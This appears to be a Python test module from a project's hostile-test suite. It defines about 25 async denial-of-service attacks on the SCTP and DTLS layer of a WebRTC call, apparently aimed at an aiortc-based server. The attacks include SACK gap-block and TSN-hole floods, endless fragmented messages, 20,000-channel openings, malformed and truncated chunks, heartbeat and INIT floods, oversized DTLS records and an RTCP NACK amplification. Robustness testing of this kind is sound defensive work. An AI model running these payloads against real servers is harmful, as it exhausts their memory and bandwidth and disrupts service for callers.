"""Attacks on the SCTP association of a call, by a caller who is connected."""

from __future__ import annotations

import struct

from tests.hostile import sctp
from tests.hostile.attacker import SHARE
from tests.hostile.line import HostileLine, hostile_line

SECONDS = 3.0
"""How long the same packet is sent, at most: mostly the host ends the call before."""
HOLE = 1
"""How many TSNs are left out."""


async def _repeat(line: HostileLine, per_second: float, *chunks: bytes) -> None:
    """The same packet again and again."""
    for _ in range(round(SECONDS * per_second)):
        await line.send(*chunks)
        await line.pause(1000 / per_second)


async def sack_gap_blocks(address: str) -> None:
    """Gap blocks that span 65,535 numbers each; 1.2 kB/s."""
    async with hostile_line(address) as line:
        await _repeat(line, 1, sctp.sack(line.acked, [(1, 65_535)] * 280))


async def sack_never_sent(address: str) -> None:
    """Acknowledges what is sent in the future, so that nothing is ever outstanding."""
    async with hostile_line(address) as line:
        for step in range(40):
            await line.send(sctp.sack(line.acked + 1_000_000 * (step + 1)))
            await line.pause(50)


async def missing_tsn(address: str) -> None:
    """Leaves out one TSN, then sends tiny chunks: each is sorted among all that wait."""
    async with hostile_line(address) as line:
        tsn = line.tsn + HOLE
        for _ in range(200):
            await line.send(*(sctp.data(tsn + each, stream=0) for each in range(55)))
            tsn += 55
            await line.pause(20)


async def alternate_tsns(address: str) -> None:
    """Every other TSN: each acknowledgement lists all the gaps, and exceeds a datagram."""
    async with hostile_line(address) as line:
        tsn = line.tsn + HOLE
        for _ in range(200):
            await line.send(*(sctp.data(tsn + 2 * each) for each in range(55)))
            tsn += 110
            await line.pause(20)


async def far_tsns(address: str) -> None:
    """TSNs beyond 65,535 from the last in order: an acknowledgement cannot express them."""
    async with hostile_line(address) as line:
        await _repeat(line, 20, sctp.data(line.tsn + 70_000))


async def forward_tsn_streams(address: str) -> None:
    """FORWARD-TSN names 65,000 streams, all of which are visited by each further one."""
    async with hostile_line(address) as line:
        for step in range(200):
            streams = [((step * 330 + each) % 65_000, 0) for each in range(330)]
            await line.send(sctp.forward_tsn(line.tsn + step, streams))
            await line.pause(20)


async def new_streams(address: str) -> None:
    """Messages without an end, each on a stream of its own; 60 MB if all are taken."""
    async with hostile_line(address) as line:
        for stream in range(60_000):
            await line.send(sctp.data(line.tsn + stream, bytes(1_000), stream, flags=sctp.FIRST))
            if stream % 32 == 31:
                await line.pause(2)


async def endless_message(address: str) -> None:
    """One message whose last fragment never comes; 20 MB if all is taken."""
    async with hostile_line(address) as line:
        for number in range(20_000):
            flags = sctp.FIRST if number == 0 else 0
            await line.send(sctp.data(line.tsn + number, bytes(1_000), flags=flags))
            if number % 16 == 15:
                await line.pause(2)


async def tiny_fragments(address: str) -> None:
    """The same in fragments of one byte, which the advertised window hardly counts."""
    async with hostile_line(address) as line:
        tsn = line.tsn
        for number in range(200):
            first = sctp.FIRST if number == 0 else 0
            await line.send(sctp.data(tsn, flags=first), *(sctp.data(tsn + each, flags=0) for each in range(1, 55)))
            tsn += 55
            await line.pause(20)


async def endless_parameters(address: str) -> None:
    """A parameter of length 0, which is never passed."""
    async with hostile_line(address) as line:
        for type in (sctp.HEARTBEAT, sctp.ERROR, sctp.HEARTBEAT_ACK, sctp.RE_CONFIG):
            await line.send(sctp.chunk(type, sctp.parameter(1, length=0)))
            await line.pause(50)
        await line.send(sctp.init(parameters=sctp.parameter(1, length=0)), tag=0)


async def truncated_chunks(address: str) -> None:
    """Bodies that end before their fields do."""
    async with hostile_line(address) as line:
        for type in sctp.CHUNKS:
            if type not in (sctp.ABORT, sctp.SHUTDOWN_COMPLETE, sctp.SHUTDOWN):
                await line.send(sctp.chunk(type, b"\x01"))
                await line.pause(20)
        await line.send(sctp.chunk(sctp.SACK, struct.pack("!LLHH", line.acked, 0, 60_000, 60_000)))
        await line.send(sctp.init(tag=0), sctp.data(line.tsn), tag=0)
        await line.send(sctp.chunk(sctp.RE_CONFIG, sctp.parameter(sctp.RESET_OUT, b"\x01")))


async def many_channels(address: str) -> None:
    """Opens 20,000 data channels."""
    async with hostile_line(address) as line:
        for number in range(0, 20_000, 20):
            await line.send(*(sctp.open_channel(line.tsn + number + each, number + each) for each in range(20)))
            await line.pause(4)


async def open_and_reset(address: str) -> None:
    """Opens a channel and resets its stream, again and again."""
    async with hostile_line(address) as line:
        for number in range(1_000):
            tsn = line.tsn + number
            await line.send(sctp.open_channel(tsn, 10, "oai-events"))
            await line.send(sctp.chunk(sctp.RE_CONFIG, sctp.reset_streams(tsn, tsn, [10])))
            await line.pause(4)


async def same_channel_twice(address: str) -> None:
    """Opens a channel that is open."""
    async with hostile_line(address) as line:
        for number in range(20):
            await line.send(sctp.open_channel(line.tsn + number, 0))
            await line.pause(20)


async def heartbeats(address: str) -> None:
    """Asks for echoes of full datagrams as fast as it can."""
    async with hostile_line(address) as line:
        echo = sctp.chunk(sctp.HEARTBEAT, sctp.parameter(1, bytes(1_400)))
        for number in range(20_000):
            await line.send(echo)
            if number % 32 == 31:
                await line.pause(4)


async def tiny_parameters(address: str) -> None:
    """Heartbeats of 350 parameters each, which are joined one by one."""
    async with hostile_line(address) as line:
        await _repeat(line, 500, sctp.chunk(sctp.HEARTBEAT, sctp.parameter(1) * 350))


async def inits(address: str) -> None:
    """INITs with random tags, each of which is answered with a cookie."""
    async with hostile_line(address) as line:
        for number in range(10_000):
            await line.send(sctp.init(number, number * 7919), tag=0)
            if number % 16 == 15:
                await line.pause(4)


async def resets(address: str) -> None:
    """RE-CONFIG chunks of 60 requests, each of which is answered."""
    async with hostile_line(address) as line:
        for number in range(2_500):
            requests = b"".join(sctp.reset_streams(number * 60 + each, line.tsn - 1, [9]) for each in range(60))
            await line.send(sctp.chunk(sctp.RE_CONFIG, requests))
            await line.pause(4)


async def duplicates(address: str) -> None:
    """The same chunk 60 times a packet."""
    async with hostile_line(address) as line:
        await _repeat(line, 1_000, *[sctp.data(line.tsn)] * 60)


async def acknowledgements(address: str) -> None:
    """SACKs as fast as it can, with every duplicate that fits."""
    async with hostile_line(address) as line:
        sack = sctp.sack(line.acked, duplicates=range(300))
        for number in range(20_000):
            await line.send(sack)
            if number % 32 == 31:
                await line.pause(4)


async def many_chunks(address: str) -> None:
    """Packets of 330 chunks of unknown and of empty kinds."""
    async with hostile_line(address) as line:
        await _repeat(line, 1_000, *[sctp.chunk(64), sctp.chunk(sctp.COOKIE_ACK), sctp.chunk(132)] * 110)


async def shutdowns(address: str) -> None:
    """Shuts the association down, and goes on."""
    async with hostile_line(address) as line:
        for number in range(200):
            await line.send(sctp.chunk(sctp.SHUTDOWN, struct.pack("!L", line.acked)))
            await line.send(sctp.chunk(sctp.SHUTDOWN_COMPLETE))
            await line.send(sctp.chunk(sctp.ABORT), sctp.data(line.tsn + number))
            await line.pause(10)


async def records_in_one_datagram(address: str) -> None:
    """30 DTLS records a datagram, of which aiortc reads one; 30 MB if all are kept."""
    async with hostile_line(address) as line:
        record = sctp.packet(line.tag, sctp.chunk(132))
        for number in range(15_000):
            await line.write_together([record] * 30)
            if number % 16 == 15:
                await line.pause(4)


async def oversized_records(address: str) -> None:
    """DTLS records of 16 kB, of which aiortc reads 1.5 kB; 30 MB if all is kept."""
    async with hostile_line(address) as line:
        record = sctp.packet(line.tag, sctp.chunk(132, bytes(16_000)))
        for number in range(2_000):
            await line.write_together([record])
            if number % 4 == 3:
                await line.pause(4)


async def negative_acknowledgements(address: str) -> None:
    """RTCP that asks for the last packets of sound 3,400 times."""
    async with hostile_line(address) as line:
        line.caller.type("What time is it?")
        await line.pause(500)
        for _ in range(round(400 * SHARE)):
            last, source = struct.unpack("!2xH4xL", line.caller.last_packet[:12])
            lost = struct.pack("!HH", (last - 17) % 65_536, 0xFFFF) * 200
            await line.write_rtcp(struct.pack("!BBHLL", 0x81, 205, (len(lost) + 8) // 4, 1, source) + lost)
            await line.pause(10)


ATTACKS = (
    sack_gap_blocks,
    sack_never_sent,
    missing_tsn,
    alternate_tsns,
    far_tsns,
    forward_tsn_streams,
    new_streams,
    endless_message,
    tiny_fragments,
    endless_parameters,
    truncated_chunks,
    many_channels,
    open_and_reset,
    same_channel_twice,
    heartbeats,
    tiny_parameters,
    inits,
    resets,
    duplicates,
    acknowledgements,
    many_chunks,
    shutdowns,
    records_in_one_datagram,
    oversized_records,
    negative_acknowledgements,
)
